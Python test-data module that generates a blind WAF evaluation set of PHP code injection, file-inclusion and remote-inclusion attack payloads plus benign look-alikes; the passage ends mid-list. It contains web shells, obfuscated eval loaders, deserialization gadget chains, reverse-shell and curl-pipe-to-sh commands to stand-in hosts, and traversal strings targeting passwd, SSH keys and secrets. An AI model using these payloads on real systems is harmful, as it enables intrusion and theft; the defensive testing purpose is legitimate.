"""Blind set "twentieth": PHP code injection, local file inclusion / path traversal and remote file inclusion,
with benign requests that carry the same vocabulary (document paths, Windows paths in support tickets, public
URLs with query strings, PHP code pasted into Slack, prose about php.ini and /etc/hosts).

Written independently for this repository by a helper that had not seen the WAF's rules, the project's other
payload lists, the shared corpus or any public payload list / ruleset regression test: every payload and text
comes from general knowledge of how a professional pentester and an automated scanner probe PHP applications
(full payloads and short probes, whole values and values appended to an ordinary page or file name, several
encodings), and of what ordinary users and PHP developers type. The set was measured once, after it was
finished; nothing was tuned to what the WAF blocks.

Each attack payload goes into three input places (query, form, JSON, cookie, header), rotating, with a parameter
name a file-handling application would use (family_gen_blind_php.three_places / _place). Same record schema as
family_gen.py; deterministic (the encoded payloads are computed, not random).
"""

from __future__ import annotations

import base64
import zlib
from collections.abc import Iterator
from typing import Any

from .family_gen import _form, _get, _json, _query
from .family_gen_blind_php import _place, bio_request, chat_and_bio, links_and_prose, slack_message, three_places
from .records import print_records

SET = "twentieth"

NAMES = ["page", "file", "include", "template", "path", "doc", "view", "lang", "module", "dir", "document",
         "folder", "style", "pdf", "img"]


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def _deflate_b64(text: str) -> str:
    """What PHP's gzinflate(base64_decode(...)) unpacks: raw deflate, then base64."""
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    return base64.b64encode(comp.compress(text.encode()) + comp.flush()).decode()


def _compress_b64(text: str) -> str:
    """What gzuncompress(base64_decode(...)) unpacks: zlib stream, then base64."""
    return base64.b64encode(zlib.compress(text.encode(), 9)).decode()


def _rot13(text: str) -> str:
    out = []
    for ch in text:
        if "a" <= ch <= "z":
            ch = chr((ord(ch) - 97 + 13) % 26 + 97)
        elif "A" <= ch <= "Z":
            ch = chr((ord(ch) - 65 + 13) % 26 + 65)
        out.append(ch)
    return "".join(out)


def _s(value: str) -> str:
    """A PHP-serialized string (protected names written with %00 as they travel in a URL)."""
    return f's:{len(value)}:"{value}";'.replace("\x00", "%00")


def _o(cls: str, *props: tuple[str, str]) -> str:
    """A PHP-serialized object of class `cls` with (name, already serialized value) properties."""
    body = "".join(_s(name) + value for name, value in props)
    return f'O:{len(cls)}:"{cls}":{len(props)}:{{{body}}}'


P = "\x00*\x00"   # protected-property prefix

# --------------------------------------------------------------------------------------------------------------
# PHP code injection
# --------------------------------------------------------------------------------------------------------------

PHP_EXEC = [
    "system('id');",
    'system("cat /etc/passwd");',
    ";system('uname -a');//",
    "exec('whoami', $o); print_r($o);",
    'echo exec("ls -la /var/www");',
    "shell_exec('id')",
    'print shell_exec("curl -s http://203.0.113.7/x.sh | sh");',
    "passthru('ls -la');",
    'passthru("nc -e /bin/sh 198.51.100.4 4444")',
    "$h=popen('/bin/ls','r');echo fread($h,4096);pclose($h);",
    'popen("id", "r")',
    "proc_open('sh -i', [0=>['pipe','r'],1=>['pipe','w'],2=>['pipe','w']], $p);",
    "$p=proc_open(\"bash -c 'id'\",array(1=>array(\"pipe\",\"w\")),$pipes);echo stream_get_contents($pipes[1]);",
    "pcntl_exec('/bin/sh', ['-c', 'id > /tmp/o']);",
    "pcntl_exec(\"/usr/bin/python3\",array(\"-c\",\"import os;os.system('id')\"));",
    "eval('echo 7*7;');",
    "eval($_REQUEST['x']);",
    "assert('phpinfo()');",
    "assert(\"system('id')\");",
    "print(`id`);",
    "echo `whoami`;",
    "home');system('id');//",
    'home".system("id")."',
    "report'.passthru('cat /etc/hosts').'",
    "preg_replace('/.*/e','system(\"id\")','x');",
    "$f=create_function('', 'system(\"id\");');$f();",
    "call_user_func('system','id')",
    'call_user_func_array("passthru", array("uname -a"));',
    "array_map('system', ['id']);",
    "array_filter(['whoami'],'exec');",
    "ob_start('system');echo 'id';ob_end_flush();",
    "register_shutdown_function('system','id');",
    "(new ReflectionFunction('system'))->invoke('id');",
    "die(shell_exec('ls /'));",
    "@system($_POST['cmd']);",
    'mail("a@example.org","s","b","","-X/var/www/html/x.php -OQueueDirectory=/tmp");',
    "en';echo shell_exec('id');$a='",
]

PHP_FILESHELL = [
    "file_put_contents('shell.php', '<?php system($_GET[\"c\"]); ?>');",
    'file_put_contents("/var/www/html/x.php",base64_decode("' + _b64("<?php eval($_POST[1]);?>") + '"));',
    "$f=fopen('cmd.php','w');fwrite($f,'<?php passthru($_REQUEST[0]);');fclose($f);",
    "fputs(fopen('s.php','w+'),'<?php @eval($_POST[p]);?>');",
    "copy('http://203.0.113.9/sh.txt','sh.php');",
    'copy("php://input", "/tmp/x.php");',
    "move_uploaded_file($_FILES['f']['tmp_name'], 'uploads/' . $_FILES['f']['name']);",
    "file_put_contents('/tmp/a.php','<?=`id`;');include '/tmp/a.php';",
    '$fp = fopen("/var/www/html/wp-content/uploads/b.php", "w"); fwrite($fp, "<?php system(\\$_GET[\'x\']); ?>");',
    "file_put_contents($_GET['n'], $_GET['d']);",
    "unlink('index.php');file_put_contents('index.php','owned by x');",
    "rename('uploads/avatar.jpg','uploads/avatar.php');",
    "symlink('/etc/passwd','/var/www/html/p.txt');",
    "(new SplFileObject('x.php','w'))->fwrite('<?php system($_GET[0]);');",
    "file_put_contents('s.php', file_get_contents('http://198.51.100.23/s.txt'));",
    "$t=tmpfile();fwrite($t,'<?php phpinfo();');include stream_get_meta_data($t)['uri'];",
    "error_log('<?php system($_GET[1]); ?>', 3, '/var/www/html/log.php');",
    "ini_set('error_log','/var/www/html/e.php');trigger_error('<?php passthru($_GET[c]);?>');",
    "chmod('shell.php', 0777);",
    "home';file_put_contents('z.php',$_POST['z']);//",
    "require '/var/lib/php/sessions/sess_' . session_id();",
]

PHP_INFO = [
    "phpinfo()",
    "1;phpinfo();exit;",
    "print_r(getenv());",
    "getenv('DB_PASSWORD')",
    "var_dump(get_defined_vars());",
    "var_export(ini_get_all());",
    "echo ini_get('disable_functions');",
    "print_r(posix_getpwuid(posix_geteuid()));",
    "print_r(scandir('/'));",
    "var_dump(scandir('/var/www/html'));",
    "print_r(glob('/home/*/.ssh/*'));",
    "readfile('/etc/passwd');",
    "highlight_file('index.php');",
    "show_source('config.php');",
    "echo file_get_contents('../config/database.php');",
    "var_dump(get_defined_constants(true)['user']);",
    "print_r($_SERVER);",
    "echo php_uname();",
    "echo getcwd(); print_r(get_loaded_extensions());",
    "$d=dir('/etc');while($e=$d->read())echo $e.\"\\n\";",
    "print(md5(31337));",
    "phpcredits();",
    "print_r(get_included_files());",
    "home'.phpinfo().'",
    "{${phpinfo()}}",
]

PHP_SUPERGLOBAL = [
    "$_GET['a']($_GET['b'])",
    "$_POST[0]($_POST[1]);",
    "@$_REQUEST['f']($_REQUEST['c']);",
    "$_COOKIE['x']($_COOKIE['y']);",
    "${'_GE'.'T'}['f']('id');",
    '${"_POST"}["c"]("whoami");',
    "$x='_GET';${$x}['c']($_GET['a']);",
    "${@eval($_POST[1])}",
    "${@print(md5(1))}",
    "$_SERVER['HTTP_X_A']($_SERVER['HTTP_X_B']);",
    "extract($_GET);$f($a);",
    "parse_str($_SERVER['QUERY_STRING']);$cmd($arg);",
    "$GLOBALS['_GET']['x']($GLOBALS['_GET']['y']);",
    "array_walk($_GET, function($v,$k){$k($v);});",
    "$f=$_GET['f'];$f($_GET['a']);",
    '"${system($_GET[c])}"',
    "foreach($_GET as $k=>$v){$$k=$v;}$fn($arg);",
    "${'_'.'POST'}[0](${'_'.'POST'}[1]);",
    "$a='f';$$a='system';$f('id');",
    "${${'_GET'}['v']}",
    "$_REQUEST['fn']($_REQUEST['arg'])",
]

PHP_STRBUILT = [
    "$a='sys'.'tem';$a('id');",
    "('sy'.'stem')('id');",
    "$f=chr(115).chr(121).chr(115).chr(116).chr(101).chr(109);$f('id');",
    r'"\x73ystem"("id");',
    r'"\163\171\163\164\145\155"("whoami");',
    r'$x="\x65\x78\x65\x63";echo $x("ls");',
    "eval(base64_decode('" + _b64("system('id');") + "'));",
    "eval(str_rot13('" + _rot13('system("id");') + "'));",
    "eval(gzinflate(base64_decode('" + _deflate_b64("system($_GET['c']);") + "')));",
    "eval(strrev(';)\"di\"(metsys'));",
    "assert(base64_decode($_POST['z']));",
    "eval(gzuncompress(base64_decode('" + _compress_b64("passthru('uname -a');") + "')));",
    "@eval(gzinflate(base64_decode(str_rot13('"
    + _rot13(_deflate_b64("echo shell_exec($_POST['x']);")) + "'))));",
    '$_="`{{{"^"?<>/";${$_}[_](${$_}[__]);',
    '$__=("#"^"|").("."^"~").("/"^"`").("|"^"/").("{"^"/");${$__}[0](${$__}[1]);',
    "$f=strrev('metsys');$f('id');",
    "$f=implode('',['s','y','s','t','e','m']);$f('id');",
    "$f=hex2bin('73797374656d');$f('id');",
    "$f=base64_decode('c3lzdGVt');$f($_GET['c']);",
    "$f=str_replace('x','','sxyxsxtxexm');$f('id');",
    "$f=pack('H*','73797374656d');$f('uname -a');",
    "$f=strtolower('SYSTEM');$f('id');",
    "$f=substr('xxsystemxx',2,6);$f('id');",
    "$f=urldecode('%73%79%73%74%65%6d');$f('id');",
    "$f=join(array_map('chr',[101,120,101,99]));echo $f('id');",
    "$k=create_function('',base64_decode('" + _b64("phpinfo();") + "'));$k();",
    'preg_replace("/x/e", base64_decode("' + _b64("system('id')") + '"), "x");',
    "eval(urldecode('%73%79%73%74%65%6d%28%27%69%64%27%29%3b'));",
    "eval(hex2bin('" + b"system('whoami');".hex() + "'));",
    "$a=array('sys','tem');$b=$a[0].$a[1];$b('id');",
    r'("\x70\x68\x70\x69\x6e\x66\x6f")();',
    "$s = sprintf('%s%s', 'pass', 'thru'); $s('id');",
    "eval(\"\\$x=\\\"sys\\\".\\\"tem\\\";\\$x('id');\");",
    "$z=str_rot13('flfgrz');$z($_GET[0]);",
    "eval(convert_uudecode(base64_decode($_COOKIE['u'])));",
]

PHP_TAGS = [
    "<?php system($_GET['cmd']); ?>",
    "<?php echo shell_exec($_REQUEST['c']);",
    "<?= `id` ?>",
    "<?=system('ls');?>",
    "<? passthru($_GET[x]); ?>",
    "<?PHP eval($_POST['p']);?>",
    '<script language="php">system("id");</script>',
    "<script language=php>phpinfo();</script>",
    '<% system("id"); %>',
    "<%= shell_exec('whoami') %>",
    "<?php\n@eval($_POST['pass']);\n?>",
    "home<?php include($_GET['f']); ?>",
    "John<?php phpinfo();?>",
    '<?php $c=$_GET[\'c\'];echo "<pre>".shell_exec($c)."</pre>"; ?>',
    '<?php if(isset($_REQUEST[\'cmd\'])){ echo "<pre>"; $cmd = ($_REQUEST[\'cmd\']); system($cmd); '
    'echo "</pre>"; die; }?>',
    "<?php @assert($_REQUEST['a']); ?>",
    "<?php echo md5('scan-probe-20'); ?>",
    "<?php /**/eval/**/($_POST[z]);",
    "<?=$_GET[0]($_GET[1])?>",
    "%3C%3Fphp%20system(%27id%27)%3B%3F%3E",
    "&lt;?php system('id'); ?&gt;",
    "<?php echo file_get_contents('/etc/passwd'); __halt_compiler();",
    "report.pdf<?= passthru('id') ?>",
    "<?php\n$s=fsockopen('198.51.100.4',4444);exec('/bin/sh -i <&3 >&3 2>&3');",
]

PHP_WRAPPER = [
    "php://input",
    "php://filter/read=convert.base64-encode/resource=index.php",
    "php://filter/convert.base64-encode/resource=../config.php",
    "php://filter/read=string.rot13/resource=config.php",
    "php://filter/string.toupper|string.rot13/resource=/etc/passwd",
    "php://filter/convert.iconv.UTF8.CSISO2022KR|convert.base64-encode|convert.iconv.UTF8.UTF7"
    "|convert.iconv.CP1162.UTF32|convert.base64-decode/resource=php://temp",
    "php://filter/convert.iconv.utf-8.utf-16le/resource=wp-config.php",
    "php://filter/zlib.deflate/convert.base64-encode/resource=/etc/passwd",
    "pHp://FilTer/convert.base64-encode/resource=index",
    "php://filter/resource=/etc/passwd",
    "php://filter/read=convert.base64-encode/resource=home",
    "php://stdin",
    "data://text/plain;base64," + _b64("<?php system($_GET['c']); ?>"),
    "data://text/plain,<?php phpinfo(); ?>",
    "data:text/plain,<?php system('id');?>",
    "data://text/html;base64," + _b64("<?php phpinfo();?>"),
    "expect://id",
    "expect://ls%20-la",
    "phar://uploads/avatar.jpg/shell.php",
    "phar:///var/www/html/uploads/x.gif",
    "zip://uploads/doc.zip#shell.php",
    "zip:///tmp/upload.zip%23cmd",
    "glob://*.php",
    "glob:///var/www/*",
    "compress.zlib:///etc/passwd",
    "compress.bzip2://../../config.php",
    "php://filter/write=string.rot13/resource=shell.php",
    "php://filter/convert.quoted-printable-encode/resource=data://,<?php phpinfo();?>",
    "rar://uploads/archive.rar#x.php",
    "ssh2.exec://user:pass@10.0.0.5:22/id",
    "php://filter/convert.base64-decode/resource=data:,PD9waHAgcGhwaW5mbygpOz8%2B",
    "php%3A%2F%2Ffilter%2Fconvert.base64-encode%2Fresource%3Dconfig",
    "php://fd/3",
]

PHP_OBJECT = [
    _o("stdClass", ("file", _s("/etc/passwd"))),
    'a:2:{i:0;s:4:"test";i:1;O:8:"stdClass":0:{}}',
    'O:+8:"stdClass":0:{}',
    'C:11:"ArrayObject":37:{x:i:0;a:1:{s:1:"a";s:2:"id";};m:a:0:{}}',
    _o("Illuminate\\Broadcasting\\PendingBroadcast",
       (P + "events", _o("Illuminate\\Bus\\Dispatcher", (P + "queueResolver", 'a:2:{i:0;O:8:"stdClass":0:{}'
                                                                               'i:1;s:6:"system";}'))),
       (P + "event", _s("id"))),
    _o("Monolog\\Handler\\SyslogUdpHandler",
       (P + "socket", _o("Monolog\\Handler\\BufferHandler", (P + "handler", "N;"), (P + "bufferSize", "i:-1;"),
                         (P + "buffer", 'a:1:{i:0;a:2:{i:0;s:2:"id";s:5:"level";N;}}'),
                         (P + "processors", 'a:2:{i:0;s:7:"current";i:1;s:6:"system";}')))),
    _o("GuzzleHttp\\Psr7\\FnStream", ("methods", 'a:1:{s:5:"close";s:7:"phpinfo";}'),
       ("_fn_close", _s("phpinfo"))),
    _o("Symfony\\Component\\Process\\Process", ("processPipes", "N;"), ("commandline", _s("id"))),
    'a:1:{s:4:"user";O:4:"User":2:{s:5:"admin";b:1;s:2:"id";i:1;}}',
    _o("Zend_Log", (P + "_writers", 'a:1:{i:0;O:20:"Zend_Log_Writer_Mail":0:{}}')),
    _o("yii\\db\\BatchQueryResult", ("_dataReader", _o("Faker\\Generator", (P + "formatters",
                                                                          'a:1:{s:5:"close";s:6:"system";}')))),
    _o("WC_Log_Handler_File", (P + "handles", 'a:1:{i:0;s:11:"/etc/passwd";}')),
    _b64('O:8:"stdClass":0:{}'),
    "O%3A8%3A%22stdClass%22%3A0%3A%7B%7D",
    _o("JDatabaseDriverMysqli", ("disconnectHandlers", 'a:1:{i:0;a:2:{i:0;O:9:"SimplePie":0:{}i:1;s:4:"init";}}')),
    _o("Doctrine\\Common\\Cache\\Psr6\\CacheAdapter", ("deferredItems", 'a:1:{i:0;s:2:"id";}')),
    _o("Symfony\\Component\\Cache\\Adapter\\TagAwareAdapter",
       ("deferred", 'a:1:{i:0;O:33:"Symfony\\Component\\Cache\\CacheItem":0:{}}'),
       ("pool", _o("Symfony\\Component\\Cache\\Adapter\\ProxyAdapter", ("setInnerItem", _s("system"))))),
    _o("CodeIgniter\\Cache\\Handlers\\RedisHandler",
       (P + "redis", _o("CodeIgniter\\Session\\Handlers\\MemcachedHandler", ("memcached", "N;")))),
    _o("Magento\\Framework\\Simplexml\\Config", ("_data", _s("<?php system('id');?>"))),
    _o("Requests_Utility_FilteredIterator", ("callback", _s("system")), ("data", 'a:1:{i:0;s:2:"id";}')),
    _o("PHPUnit\\Framework\\MockObject\\MockTrait", ("classCode", _s("system('id');")),
       ("mockName", _s("Pwn"))),
    'a:1:{i:0;C:16:"SplObjectStorage":24:{x:i:1;O:8:"stdClass":0:{};m:a:0:{}}}',
    'O:4:"Test":1:{s:6:"%00*%00cmd";s:2:"id";}',
]

PHP_UPLOAD = [
    "GIF89a;<?php system($_GET['c']); ?>",
    "GIF89a<?php echo shell_exec($_POST['x']);?>",
    "GIF87a\n<?=`$_GET[0]`?>",
    "JFIF<?php system($_REQUEST[1]);?>",
    "%PDF-1.4 <?php passthru($_GET['c']); ?>",
    "PNG IHDR <?php eval($_POST[0]); ?>",
    "BM<?php @eval($_POST['a']);?>",
    '<svg xmlns="http://www.w3.org/2000/svg"><?php system(\'id\');?></svg>',
    "GIF89a/*<?php eval($_GET[e]);/*",
    "shell.php%00.gif",
    "avatar.phtml",
    "cmd.php;.jpg",
    "x.php.jpg",
    "GIF89a;\n<script language=\"php\">passthru($_GET['c']);</script>",
    "photo.jpg.pHp5",
]

PHP_HTACCESS = [
    "AddType application/x-httpd-php .jpg",
    "AddHandler php7-script .txt",
    "SetHandler application/x-httpd-php",
    '<FilesMatch "\\.gif$">SetHandler application/x-httpd-php</FilesMatch>',
    "php_value auto_prepend_file php://input",
    "php_value auto_append_file data://text/plain;base64," + _b64("<?php phpinfo();"),
    "php_flag engine on",
    "auto_prepend_file=shell.gif",
    "auto_prepend_file = /var/www/html/uploads/a.jpg",
    'auto_append_file="php://filter/convert.base64-decode/resource=x.txt"',
    "allow_url_include=On",
    "Options +ExecCGI\nAddHandler cgi-script .jpg",
    "# <?php system($_GET['c']); ?>\nAddType application/x-httpd-php .htaccess",
    'php_value include_path "/tmp"',
    "extension=/tmp/evil.so",
    "AddType application/x-httpd-php .png\nphp_value auto_prepend_file \"/tmp/sess_abc\"",
]

PHP: dict[str, list[str]] = {
    "php-exec": PHP_EXEC, "php-fileshell": PHP_FILESHELL, "php-info": PHP_INFO,
    "php-superglobal": PHP_SUPERGLOBAL, "php-strbuilt": PHP_STRBUILT, "php-tags": PHP_TAGS,
    "php-wrapper": PHP_WRAPPER, "php-object": PHP_OBJECT, "php-upload": PHP_UPLOAD, "php-htaccess": PHP_HTACCESS,
}

# --------------------------------------------------------------------------------------------------------------
# Local file inclusion / path traversal
# --------------------------------------------------------------------------------------------------------------

LFI_TRAVERSAL = [
    "../../../../etc/passwd",
    "../../../../../../../../etc/passwd",
    "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "..%2f..%2f..%2f..%2fetc%2fpasswd",
    "%252e%252e%252f%252e%252e%252fetc%252fpasswd",
    "..%252f..%252f..%252fetc/passwd",
    "..%c0%af..%c0%af..%c0%afetc/passwd",
    "..%c1%9c..%c1%9c..%c1%9cboot.ini",
    "..%ef%bc%8f..%ef%bc%8f..%ef%bc%8fetc/passwd",
    "%u002e%u002e%u2215%u002e%u002e%u2215etc%u2215passwd",
    "....//....//....//etc/passwd",
    "....\\/....\\/....\\/etc/passwd",
    "..././..././..././etc/passwd",
    "..;/..;/..;/WEB-INF/web.xml",
    "/..;/..;/..;/etc/passwd",
    "..\\/..\\/..\\/etc/passwd",
    "../..\\../..\\etc/passwd",
    "..%5c..%5c..%5cetc/passwd",
    "..%255c..%255c..%255cwindows/win.ini",
    "%2e%2e%5c%2e%2e%5c%2e%2e%5cboot.ini",
    "home/../../../../etc/passwd",
    "en/../../../../etc/passwd%00",
    "home.php/../../../../../etc/passwd",
    "templates/default/../../../../../../etc/passwd",
    "../../../../etc/passwd%00.png",
    "../../../../etc/passwd%00",
    "../../../../etc/passwd%2500.jpg",
    "../../../etc/passwd%2e%2e%2e%2e%2e%2e%2e%2e%2e%2e",
    "../../../etc/passwd%20%20%20%20%20%20%20%20",
    "../../../etc/passwd" + "/." * 40,
    "/var/www/html/../../../etc/passwd",
    "./././../../../etc/passwd",
    "..//..//..//etc//passwd",
    "..///////..////..//////etc/passwd",
    "%2F..%2F..%2F..%2Fetc%2Fshadow",
    "..%2F..%2F..%2Fproc%2Fself%2Fenviron",
    ".%2e/.%2e/.%2e/.%2e/etc/passwd",
    "%2e./%2e./%2e./etc/passwd",
    "..%u2216..%u2216windows%u2216win.ini",
    "..%e0%80%af..%e0%80%af..%e0%80%afetc/passwd",
    "..%c0%2f..%c0%2f..%c0%2fetc/passwd",
    "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
    "..%25c0%25af..%25c0%25afetc/passwd",
    "../" * 16 + "etc/hosts",
    "/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "..\\..\\..\\..\\..\\..\\etc\\passwd",
    "%5c..%5c..%5c..%5cetc%5cpasswd",
    "index.php?page=../../../etc/passwd",
    "docs/2024/../../../../../etc/group",
    ".%252e/.%252e/.%252e/etc/passwd",
    "..\\\\..\\\\..\\\\etc\\\\passwd",
    "static/..%2f..%2f..%2f..%2fetc%2fpasswd",
    "%2e%2e%2f" * 8 + "etc%2fpasswd%00",
    "../../../etc/passwd%20",
    "..0x2f..0x2f..0x2fetc0x2fpasswd",
    "..%2F..%2F..%2F..%2F..%2Fvar%2Fwww%2F.env",
    "..%5C..%5C..%5C..%5Cwindows%5Csystem.ini",
    "lang/en/../../../../../../etc/passwd",
    "/./././././etc/./passwd",
    "..%2e/..%2e/..%2e/etc/passwd",
]

LFI_UNIX = [
    "/etc/passwd",
    "/etc/shadow",
    "/etc/group",
    "/etc/hosts",
    "/etc/issue",
    "/etc/mysql/my.cnf",
    "/etc/nginx/nginx.conf",
    "/etc/apache2/apache2.conf",
    "/etc/httpd/conf/httpd.conf",
    "/etc/ssh/sshd_config",
    "/etc/sudoers",
    "/etc/crontab",
    "/proc/self/environ",
    "/proc/self/cmdline",
    "/proc/self/fd/0",
    "/proc/self/fd/7",
    "/proc/self/status",
    "/proc/self/maps",
    "/proc/version",
    "/proc/1/environ",
    "/proc/self/cwd/index.php",
    "/proc/net/tcp",
    "/proc/self/root/etc/passwd",
    "/var/log/apache2/access.log",
    "/var/log/apache2/error.log",
    "/var/log/nginx/access.log",
    "/var/log/httpd/access_log",
    "/var/log/auth.log",
    "/var/mail/www-data",
    "/var/lib/php/sessions/sess_9f8e7d6c5b4a",
    "~/.ssh/id_rsa",
    "/root/.ssh/id_rsa",
    "/home/ubuntu/.ssh/authorized_keys",
    "/root/.bash_history",
    "../../../../home/deploy/.bash_history",
    "/root/.aws/credentials",
    "../../wp-config.php",
    "../wp-config.php.bak",
    "../../../.env",
    "/var/www/html/.env",
    "../../config/database.yml",
    "../config/secrets.yml",
    "../../WEB-INF/web.xml",
    "/WEB-INF/classes/application.properties",
    "../../.git/config",
    "../../../app/etc/local.xml",
    "../../configuration.php",
    "../sites/default/settings.php",
    "../../../.htpasswd",
    "/usr/local/etc/php/php.ini",
    "../../storage/logs/laravel.log",
    "/run/secrets/db_password",
    "/var/run/secrets/kubernetes.io/serviceaccount/token",
]

LFI_WINDOWS = [
    "C:\\Windows\\win.ini",
    "C:/Windows/win.ini",
    "c:\\boot.ini",
    "C:\\boot.ini%00",
    "..\\..\\..\\..\\..\\Windows\\win.ini",
    "..\\..\\..\\..\\boot.ini",
    "C:\\Windows\\System32\\drivers\\etc\\hosts",
    "%SYSTEMROOT%\\win.ini",
    "%WINDIR%\\system32\\config\\SAM",
    "C:\\Windows\\repair\\sam",
    "C:\\Windows\\System32\\config\\SYSTEM",
    "C:\\inetpub\\wwwroot\\web.config",
    "..\\..\\web.config",
    "C:\\xampp\\apache\\conf\\httpd.conf",
    "C:\\xampp\\php\\php.ini",
    "C:\\Windows\\Panther\\Unattend.xml",
    "C:\\Users\\Administrator\\NTUser.dat",
    "C:\\Users\\Administrator\\.ssh\\id_rsa",
    "\\\\?\\C:\\Windows\\win.ini",
    "\\\\.\\C:\\Windows\\win.ini",
    "\\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\Windows\\System32\\config\\SAM",
    "\\\\localhost\\c$\\Windows\\win.ini",
    "\\\\127.0.0.1\\C$\\boot.ini",
    "..%5c..%5c..%5cWindows%5cwin.ini",
    "C:%5CWindows%5Cwin.ini",
    "c:/windows/system32/inetsrv/config/applicationHost.config",
    "C:\\Windows\\debug\\NetSetup.log",
    "D:\\inetpub\\logs\\LogFiles\\W3SVC1\\u_ex240618.log",
    "C:\\ProgramData\\MySQL\\MySQL Server 8.0\\my.ini",
    "index.php::$DATA",
    "..\\..\\..\\..\\..\\..\\..\\..\\Windows\\System32\\license.rtf",
    "C:\\Windows\\System32\\inetsrv\\MetaBase.xml",
]

LFI_FILEURL = [
    "file:///etc/passwd",
    "file://localhost/etc/passwd",
    "file:/etc/passwd",
    "file:///proc/self/environ",
    "file:///C:/Windows/win.ini",
    "file://C:\\Windows\\win.ini",
    "file:///c:/boot.ini",
    "FILE:///etc/shadow",
    "file://127.0.0.1/etc/hosts",
    "file:///var/www/html/.env",
    "file:%2F%2F%2Fetc%2Fpasswd",
    "file%3A%2F%2F%2Fetc%2Fpasswd",
    "file:///etc/passwd%00",
    "file:///home/ubuntu/.ssh/id_rsa",
    "file:////etc/passwd",
    "file:///./etc/./passwd",
    "file:///etc/nginx/sites-enabled/default",
    "home?file=file:///etc/passwd",
]

LFI: dict[str, list[str]] = {
    "lfi-traversal": LFI_TRAVERSAL, "lfi-unix": LFI_UNIX, "lfi-windows": LFI_WINDOWS, "lfi-fileurl": LFI_FILEURL,
}

# --------------------------------------------------------------------------------------------------------------
# Remote file inclusion
# --------------------------------------------------------------------------------------------------------------

RFI_URL = [
    "http://evil.example/shell.txt?",
    "http://evil.example/shell.txt%3F",
    "http://evil.example/inc.txt#",
    "http://evil.example/inc.txt%23",
    "https://attacker.example.net/c.txt&",
    "http://pastebin.com/raw/Xy7kQ2pL?",
    "https://raw.githubusercontent.com/acme-redteam/x/main/s.txt?",
    "http://www.xpl0it-host.ru/r.txt??",
    "hTTp://EVIL.example/s.txt?",
    "http://evil.example/inc.php?home",
    "http://evil.example:8080/bd.txt?x=",
    "//evil.example/remote.txt?",
    "http:/\\evil.example/s2.txt?",
    "http://user:pass@evil.example/s3.txt?",
    "http://evil.example/s4.txt%00",
    "http://evil.example/s5.txt?%00",
    "http%3A%2F%2Fevil.example%2Fshell.txt%3F",
    "http://evil.example/test.txt?cmd=id&",
    "https://gist.githubusercontent.com/anon/abc123/raw/sh.txt#",
    "http://evil.example/payload.jpg?",
    "http://evil.example/lang/en",
    "https://bit.ly/3xYzAbc?",
    "index.php?page=http://evil.example/p.txt?",
    "home&page=https://evil.example/p2.txt%23",
]

RFI_IP = [
    "http://198.51.100.7/shell.txt?",
    "http://3325256711/shell.txt?",
    "http://0xC6336407/s.txt?",
    "http://0306.063.0144.07/s.txt?",
    "http://0xc6.0x33.0x64.0x07/s.txt#",
    "http://198.51.25607/x.txt?",
    "http://[::ffff:198.51.100.7]/s.txt?",
    "http://[::ffff:c633:6407]/s.txt?",
    "http://203.0.113.9:8000/inc.txt?",
    "https://[2001:db8::1337]/inc.txt?",
    "http://0x7f.1/shell.txt",
    "http://198.51.100.7.nip.io/s.txt?",
    "https://203.0.113.50/p.txt?.php",
    "http://198.051.100.007/a.txt%3f",
]

RFI_PROTO = [
    "ftp://anonymous:anon@198.51.100.7/pub/shell.txt",
    "ftp://evil.example/s.txt?",
    "ftps://evil.example/inc/x.txt",
    "smb://evil.example/share/shell.php",
    "\\\\evil.example\\share\\shell.php",
    "\\\\198.51.100.7\\public\\s.php",
    "//198.51.100.7/share/x.php",
    "\\\\evil.example@SSL\\DavWWWRoot\\s.php",
    "\\\\evil.example@80\\webdav\\shell.php",
    "\\\\evil.example\\c$\\tmp\\s.php",
    "gopher://evil.example:70/_x.txt",
    "https://evil.example/inc.txt",
    "ssh2.sftp://user:pass@evil.example:22/tmp/s.php",
    "tftp://198.51.100.7/shell.txt",
    "smb://198.51.100.7/pub/r57.php",
    "file://evil.example/share/shell.php",
]

RFI_DATA = [
    "data:text/plain,<?php system($_GET['c']);?>",
    "data:;base64," + _b64('<?php system("id"); ?>'),
    "data://text/plain;base64," + _b64("<?php passthru($_GET['cmd']);?>"),
    "data:application/x-httpd-php;base64," + _b64("<?php phpinfo(); ?>"),
    "data://text/plain,<?=`$_GET[c]`;?>",
    "php://input%00",
    "PHP://INPUT",
    "php://input?x=",
    "data:text/plain;charset=utf-8,<?php phpinfo();?>",
    "data://,<?php echo shell_exec('id');",
    "data:text/plain;base64," + _b64("<?php eval($_REQUEST[0]);"),
    "data:%2C%3C%3Fphp%20phpinfo()%3B%3F%3E",
]

RFI_SHELL = [
    "http://evil.example/shell.txt",
    "http://evil.example/c99.php",
    "http://evil.example/r57.txt?",
    "https://evil.example/c100.txt?",
    "http://evil.example/wso.txt?",
    "http://evil.example/b374k.php?",
    "http://evil.example/shells/weevely.txt?",
    "http://evil.example/bd.txt??",
    "http://evil.example/cmd.txt?&cmd=id",
    "http://evil.example/phpshell.gif?",
    "http://evil.example/id.txt?",
    "http://evil.example/alfa.txt?",
    "http://evil.example/r57shell.php.txt?",
    "http://evil.example/uploads/mini.php#",
]

RFI: dict[str, list[str]] = {
    "rfi-url": RFI_URL, "rfi-ip": RFI_IP, "rfi-proto": RFI_PROTO, "rfi-data": RFI_DATA, "rfi-shell": RFI_SHELL,
}

FAMILIES: dict[str, dict[str, list[str]]] = {"php": PHP, "lfi": LFI, "rfi": RFI}


def attacks() -> Iterator[dict[str, Any]]:
    for family, subs in FAMILIES.items():
        n = i = 0
        for sub, payloads in subs.items():
            for p in payloads:
                for place, name in three_places(i, NAMES):
                    n += 1
                    yield {**_place(place, name, p), "id": f"{SET}-{family}-{n:04d}", "category": family,
                           "sub": sub, "placement": place, "payload": p}
                i += 1


# --------------------------------------------------------------------------------------------------------------
# Benign
# --------------------------------------------------------------------------------------------------------------

# (parameter, value) pairs a document manager, a CMS or a help desk really sends
FIELDS = [
    ("file", "reports/2024/q3.pdf"),
    ("document", "invoices/2023/INV-00421.pdf"),
    ("path", "contracts/Acme Corp/MSA v2.1 (signed).pdf"),
    ("file", "Q3 Board Deck - final.v3.pptx"),
    ("img", "images/logo@2x.png"),
    ("template", "templates/email/welcome.html"),
